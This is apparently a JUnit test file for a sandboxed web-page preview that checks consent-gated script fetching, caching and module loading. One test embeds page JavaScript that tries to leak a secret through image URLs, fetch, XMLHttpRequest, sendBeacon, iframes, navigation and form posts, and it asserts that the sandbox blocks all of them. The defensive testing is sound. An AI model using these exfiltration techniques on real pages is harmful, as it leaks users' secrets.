package dev.easel.preview;

import static org.assertj.core.api.Assertions.assertThat;

import dev.easel.library.Library;
import dev.easel.library.cache.CachedFiles;
import dev.easel.library.cache.FetchRules;
import dev.easel.library.cache.FetchTicket;
import dev.easel.library.cache.HttpsSite;
import dev.easel.library.cache.MemoryKeeper;
import dev.easel.library.cache.OutsideFiles;
import dev.easel.preview.sandbox.NetworkEntry;
import dev.easel.preview.sandbox.NetworkEntry.Outcome;
import dev.easel.preview.sandbox.PreviewNetwork;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// A real page, a real https server, and the user's consent between them.
class FetchedPageTest {
    @TempDir static Path keys;
    @TempDir Path directory;

    private final MemoryKeeper keeper = new MemoryKeeper(FetchRules.USUAL);
    private HttpsSite site;
    private OutsideFiles outside;
    private PageFixture page;

    @BeforeEach
    void start() throws Exception {
        FxThread.start();
        site = new HttpsSite(keys);
        outside = site.outside(new CachedFiles(directory.resolve("cache")), keeper);
        PreviewNetwork network = new PreviewNetwork(new Library(), outside);
        network.install();
        page = new PageFixture(directory.resolve("storage"), network);
    }

    @AfterEach
    void stop() {
        page.close();
        site.close();
    }

    private void fetch(String path) throws Exception {
        outside.fetch(page.project, site.address(path), "script", new FetchTicket());
    }

    private List<String> urls(Outcome outcome) {
        return page.requests().stream()
                .filter(r -> r.outcome() == outcome)
                .map(NetworkEntry::url)
                .toList();
    }

    private String script(String path) {
        return "<!doctype html><script src='" + site.url(path) + "'></script>";
    }

    @Test
    void underAskTheFileIsDeniedOfferedAndNotAskedFor() {
        site.file("/a.js", "text/javascript", "a = 1");
        page.show("index.html", script("/a.js"));

        NetworkEntry denied =
                page.requests().stream()
                        .filter(r -> r.outcome() == Outcome.DENIED)
                        .findFirst()
                        .orElseThrow();
        assertThat(denied.offered()).isTrue();
        assertThat(denied.kind()).isEqualTo("script");
        assertThat(site.asked()).isEmpty();
    }

    @Test
    void aFetchedFileWorksWithTheServerGone() throws Exception {
        site.file("/a.js", "text/javascript", "a = 'from the cache'");
        site.file("/a.css", "text/css", "body { color: rgb(1, 2, 3) }");
        fetch("/a.js");
        fetch("/a.css");
        site.close();

        page.show(
                "index.html",
                script("/a.js") + "<link rel=stylesheet href='" + site.url("/a.css") + "'>");

        assertThat(page.eval("a")).isEqualTo("\"from the cache\"");
        assertThat(page.eval("getComputedStyle(document.body).color"))
                .isEqualTo("\"rgb(1, 2, 3)\"");
        assertThat(urls(Outcome.CACHED))
                .containsExactlyInAnyOrder(site.url("/a.js"), site.url("/a.css"));
        assertThat(outside.departures().count()).isEqualTo(2);
    }

    @Test
    void theModulesOfAFetchedModuleComeWithIt() throws Exception {
        site.redirect("/lib", "/lib@2/main.js");
        site.file("/lib@2/main.js", "text/javascript", "export * from './part.js'");
        site.file("/lib@2/part.js", "text/javascript", "export const x = 42");
        fetch("/lib");

        page.show(
                "index.html",
                "<!doctype html><script type=module>import {x} from '"
                        + site.url("/lib")
                        + "'; window.x = x</script>");

        assertThat(page.eval("x")).isEqualTo("42");
        assertThat(urls(Outcome.CACHED))
                .containsExactly(site.url("/lib"), site.url("/lib@2/main.js"));
        assertThat(urls(Outcome.FETCHED)).containsExactly(site.url("/lib@2/part.js"));
    }

    @Test
    void anAllowedHostIsAskedWhileThePageWaits() {
        keeper.keep(FetchRules.USUAL.allowing("cdn.test"));
        site.file("/a.js", "text/javascript", "a = 1");
        site.file("/d.json", "application/json", "{\"d\": 2}");

        page.show("index.html", script("/a.js"));

        assertThat(page.eval("a")).isEqualTo("1");
        assertThat(urls(Outcome.FETCHED)).containsExactly(site.url("/a.js"));
        assertThat(
                        page.eval(
                                "fetch('"
                                        + site.url("/d.json")
                                        + "').then(r => r.json(), e => e.name)"))
                .isEqualTo("\"TypeError\"");
    }

    @Test
    void aPageCannotSendAnythingToAnAllowedHost() {
        keeper.keep(FetchRules.USUAL.allowing("cdn.test").with(FetchRules.Mode.EVERY_HOST));
        site.file("/a.js", "text/javascript", "a = 1");
        String host = site.url("");
        page.show(
                "index.html",
                script("/a.js")
                        + """
                        <form id=f method=post action='HOST/a.js'><input name=x value=secret></form>
                        <script>
                        secret = 'hunter2';
                        new Image().src = 'HOST/a.js?' + secret;
                        new Image().src = 'HOST/' + secret + '/a.js';
                        fetch('HOST/a.js', {method: 'POST', body: secret}).catch(() => 0);
                        fetch('HOST/a.js', {headers: {'x-secret': secret}}).catch(() => 0);
                        x = new XMLHttpRequest(); x.open('GET', 'HOST/a.js?s=' + secret);
                        x.withCredentials = true; x.send();
                        y = new XMLHttpRequest(); y.open('GET', 'HOST/sync.js?s=' + secret, false);
                        try { y.send() } catch (e) {}
                        navigator.sendBeacon('HOST/a.js', secret);
                        document.body.append(Object.assign(document.createElement('iframe'), {src: 'HOST/a.js'}));
                        location = 'HOST/a.js?' + secret;
                        setTimeout(() => f.submit(), 20);
                        </script>
                        """
                                .replace("HOST", host));
        assertThat(page.eval("new Promise(r => setTimeout(() => r(1), 400))")).isEqualTo("1");

        assertThat(site.asked()).containsOnly("/a.js");
        assertThat(site.requestsWith("X-secret", "Cookie", "Referer", "Origin")).isEmpty();
    }

    @Test
    void aFileThatDoesNotComeIsListedWithTheReason() {
        keeper.keep(FetchRules.USUAL.allowing("cdn.test"));
        page.show("index.html", script("/none.js"));

        assertThat(page.requests())
                .anySatisfy(r -> {
                    assertThat(r.outcome()).isEqualTo(Outcome.MISSING);
                    assertThat(r.note()).contains("no file none.js");
                    assertThat(r.offered()).isTrue();
                });
    }
}
